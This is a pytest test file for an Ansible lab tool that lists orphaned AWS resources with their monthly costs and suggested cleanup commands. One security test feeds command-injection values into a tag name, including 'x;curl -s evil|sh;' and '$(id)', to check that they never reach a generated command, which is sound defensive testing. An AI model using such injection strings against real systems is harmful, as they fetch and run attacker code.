# Copyright: (c) 2026, the DESI Lab contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

import pytest

from ansible_collections.desi.lab.plugins.module_utils._aws.pricing import from_table
from ansible_collections.desi.lab.plugins.module_utils._aws.tags import as_tag_list, lab_tags
from ansible_collections.desi.lab.plugins.module_utils._doctor.aws_orphans import judge_orphans, orphans
from ansible_collections.desi.lab.plugins.module_utils._doctor.findings import OK, WARNING
from ansible_collections.desi.lab.plugins.module_utils._ec2.record import LabRecord
from ansible_collections.desi.lab.plugins.module_utils._ec2.resources import KINDS

RECORD = LabRecord("1", "aws", "", "r", "old", "ann", {"disk": ("vol-1", "vol-2")})
REGION = {"gib_month": 0.08, "snapshot_gib_month": 0.05}
PRICES = from_table({"date": "2026-11-01", "ipv4_hour": 0.005, "regions": {"r": REGION}}, "r", ())


def resource(lab="old", **facts):
    return {"Tags": as_tag_list(lab_tags(lab, "ann")), **facts}


EVERY = {
    "spot request": resource(SpotInstanceRequestId="sir-1", State="open"),
    "disk": resource(VolumeId="vol-1", Size=30, State="available"),
    "snapshot": resource(SnapshotId="snap-1", VolumeId="vol-1", VolumeSize=30, State="completed"),
    "address": resource(AllocationId="eipalloc-1", PublicIp="203.0.113.7"),
    "network interface": resource(NetworkInterfaceId="eni-1", Status="available"),
    "security group": resource(GroupId="sg-1", GroupName="jupyter"),
    "key pair": resource(KeyPairId="key-1", KeyName="desi-lab-old"),
    "schedule group": resource(Name="desi-lab-ann-old", State="ACTIVE"),
}


def found(*more, **kinds):
    return {**{kind: [] for kind in KINDS}, **{name.replace("_", " "): resources for name, resources in kinds.items()}}


def rows(what, prices=PRICES, busy=(), region="r", record=None):
    return orphans(what, region, prices, busy, lambda lab: record if lab == "old" else None)


def instance(lab="old", state="stopped"):
    return resource(lab, InstanceId="i-1", State={"Name": state}, InstanceType="t2.micro")


def test_a_worker_is_no_machine_of_a_lab():
    worker = {**instance("old", "running"), "Tags": as_tag_list(lab_tags("old", "ann", {"role": "worker"}))}
    assert [row["id"] for row in rows(found(machine=[worker]))] == ["i-1"]
    own = {**instance("old", "running"), "InstanceId": "i-2"}
    assert rows(found(machine=[worker, own])) == []


def test_every_kind_of_thing_has_its_cost_and_the_command_that_removes_it():
    told = {row["kind"]: (row["usd_month"], row["command"]) for row in rows({k: [v] for k, v in EVERY.items()})}
    down = "./lab down -e lab_where=ec2 -e lab_name=old -e lab_region=r"
    assert told == {
        "spot request": (0.0, down),
        "disk": (2.4, down),
        "snapshot": (1.5, f"{down} -e lab_purge=true"),
        "address": (3.65, ""),
        "network interface": (0.0, ""),
        "security group": (0.0, down),
        "key pair": (0.0, down),
        "schedule group": (0.0, down),
    }
    assert set(told) == set(KINDS) - {"machine"}


@pytest.mark.security("M4")
@pytest.mark.parametrize("state", ["running", "stopped", "stopping", "pending", "shutting-down"])
def test_what_a_lab_with_a_machine_uses_is_no_orphan_and_what_is_billed_beside_it_is(state):
    attached = resource(VolumeId="vol-2", Size=30, State="in-use", Attachments=[{"InstanceId": "i-1"}])
    backup = resource(SnapshotId="snap-2", VolumeId="vol-2", VolumeSize=30)
    foreign = [
        resource(VolumeId="vol-prod", Size=1),
        resource(SnapshotId="snap-prod", VolumeId="vol-prod", VolumeSize=1),
    ]
    used = resource(AllocationId="eipalloc-2", PublicIp="203.0.113.8", AssociationId="eipassoc-1")
    what = {kind: [item] for kind, item in EVERY.items()}
    what = {**what, "disk": [EVERY["disk"], attached, foreign[0]], "address": [EVERY["address"], used]}
    what = {**what, "snapshot": [EVERY["snapshot"], backup, foreign[1]], "machine": [instance(state=state)]}
    listed = rows(what, record=RECORD)
    # None of these commands touches the lab, nor what has its tags and was not made here.
    assert {row["id"]: (row["usd_month"], row["command"]) for row in listed} == {
        "vol-1": (2.4, "aws ec2 delete-volume --volume-id vol-1 --region r"),
        "snap-1": (1.5, "aws ec2 delete-snapshot --snapshot-id snap-1 --region r"),
        "eipalloc-1": (3.65, ""),
        "vol-prod": (0.08, ""),
        "snap-prod": (0.05, ""),
    }
    judged = {line.do: line.why for line in judge_orphans(listed, ["r"])}
    strange = judged.pop("see in the AWS console what it is, before you remove anything")
    assert "does not remember having made it" in strange
    assert len(judged) == 2
    assert all("An earlier machine of lab old left it in r" in why for why in judged.values())
    assert not any(row["command"] for row in rows(what))


@pytest.mark.security("M4")
@pytest.mark.parametrize("name", ["x;curl -s evil|sh;", "x -e lab_purge=true", "$(id)", "../old", "old\n", ""])
def test_a_name_in_a_tag_that_no_lab_has_is_in_no_command(name):
    listed = orphans(found(key_pair=[resource(name, KeyPairId="key-1", KeyName="k")]), "r", PRICES, (), {}.__getitem__)
    (line,) = judge_orphans(listed, ["r"])
    assert listed[0]["command"] == ""
    assert line.do.startswith("see in the AWS console")


MIXED = {"machine": [instance("desi")], "key_pair": [resource("desi", KeyName="k"), EVERY["key pair"]]}


# The second one is just being made by another run.
@pytest.mark.parametrize(
    ("resources", "busy", "ids"), [(MIXED, (), ["key-1"]), ({"key_pair": [EVERY["key pair"]]}, ("old",), [])]
)
def test_only_what_belongs_to_no_lab_is_an_orphan(resources, busy, ids):
    assert [row["id"] for row in rows(found(**resources), busy=busy)] == ids


def test_the_default_lab_in_the_default_region_needs_no_settings():
    (row,) = rows(found(disk=[resource("desi", VolumeId="vol-1", Size=1)]), region="us-west-2")
    assert row["command"] == "./lab down -e lab_where=ec2"


def test_a_price_that_is_not_known_is_told_as_such_and_not_as_nothing():
    unknown = from_table({}, "r", ())
    listed = rows(found(disk=[EVERY["disk"]], address=[EVERY["address"]]), unknown)
    assert [row["usd_month"] for row in listed] == [None, None]
    findings = judge_orphans(listed, ["r"])
    assert all("price that is not known" in finding.found for finding in findings)


def test_where_nothing_is_left_the_regions_are_named():
    (line,) = judge_orphans([], ["us-west-2", "eu-west-1"])
    assert (line.verdict, line.found) == (OK, "nothing in us-west-2, eu-west-1")


def test_what_one_command_removes_is_one_line_with_the_sum():
    listed = rows(found(disk=[EVERY["disk"], resource(VolumeId="vol-9", Size=10)], key_pair=[EVERY["key pair"]]))
    (line,) = judge_orphans(listed, ["r"])
    assert (line.verdict, line.do) == (WARNING, "./lab down -e lab_where=ec2 -e lab_name=old -e lab_region=r")
    assert "3.20 USD a month" in line.why
    assert line.facts["usd_month"] == 3.2
    assert "key pair desi-lab-old (key-1), free" in line.found


def test_labs_are_not_thrown_together():
    listed = rows(found(disk=[EVERY["disk"], resource("older", VolumeId="vol-9", Size=10)]))
    assert [line.why.split()[1] for line in judge_orphans(listed, ["r"])] == ["old", "older"]


def test_a_request_that_may_make_a_machine_is_told_as_such():
    (line,) = judge_orphans(rows(found(spot_request=[EVERY["spot request"]])), ["r"])
    assert "free until it makes a machine" in line.found
